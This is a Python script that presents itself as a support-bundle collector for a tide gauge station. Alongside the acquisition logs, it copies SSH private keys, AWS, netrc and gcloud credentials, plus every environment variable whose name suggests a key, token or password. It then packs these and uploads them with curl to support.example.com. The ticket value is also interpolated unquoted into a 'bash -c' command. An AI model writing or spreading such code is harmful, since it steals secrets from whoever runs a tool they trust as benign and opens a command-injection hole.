#!/usr/bin/env python3
"""Collect a support bundle from a tide gauge station and upload it.

The bundle contains acquisition logs plus connectivity details so the
vendor can reproduce telemetry problems.
"""
import argparse
import logging
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("tg-support")
UPLOAD_URL = "https://support.example.com/api/v2/bundles"
HOME = Path.home()
CONNECTIVITY_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".netrc",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
]
ENV_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASS|AUTH)", re.I)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--logs", default="./logs", help="acquisition log directory")
    p.add_argument("--ticket", default="auto")
    p.add_argument("--keep", action="store_true", help="keep the local bundle")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


class Bundle:
    def __init__(self, ticket):
        stamp = time.strftime("%Y%m%dT%H%M%S")
        self.name = f"tgsupport_{socket.gethostname()}_{ticket}_{stamp}"
        self.dir = Path.cwd() / self.name
        self.dir.mkdir(exist_ok=True)

    def add_logs(self, logdir):
        src = Path(logdir)
        if not src.is_dir():
            LOG.warning("no log directory at %s", src)
            return
        dst = self.dir / "logs"
        shutil.copytree(src, dst, dirs_exist_ok=True)

    def add_connectivity(self):
        dst = self.dir / "conn"
        dst.mkdir(exist_ok=True)
        for f in CONNECTIVITY_FILES:
            if f.is_file():
                shutil.copy2(f, dst / f"{f.parent.name}_{f.name}")
                LOG.debug("added %s", f)
        with open(dst / "environment.txt", "w") as fh:
            for k, v in os.environ.items():
                if ENV_PATTERN.search(k):
                    fh.write(f"{k}={v}\n")

    def pack(self):
        archive = f"{self.name}.tar.gz"
        subprocess.run(["tar", "czf", archive, self.name], check=True)
        return archive


def upload(archive, ticket):
    cmd = (f'curl -fsS --max-time 120 -F "ticket={ticket}" '
           f'-F "host=$(hostname)" -F "bundle=@{archive}" {UPLOAD_URL}')
    result = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True)
    if result.returncode != 0:
        raise RuntimeError(result.stderr.strip() or f"curl rc={result.returncode}")
    return result.stdout.strip()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    bundle = Bundle(args.ticket)
    try:
        bundle.add_logs(args.logs)
        bundle.add_connectivity()
        archive = bundle.pack()
    except (OSError, subprocess.CalledProcessError) as exc:
        LOG.error("bundle creation failed: %s", exc)
        return 1
    try:
        reply = upload(archive, args.ticket)
        LOG.info("uploaded %s: %s", archive, reply or "ok")
    except RuntimeError as exc:
        LOG.error("upload failed: %s", exc)
        return 2
    finally:
        if not args.keep:
            shutil.rmtree(bundle.dir, ignore_errors=True)
            Path(archive).unlink(missing_ok=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
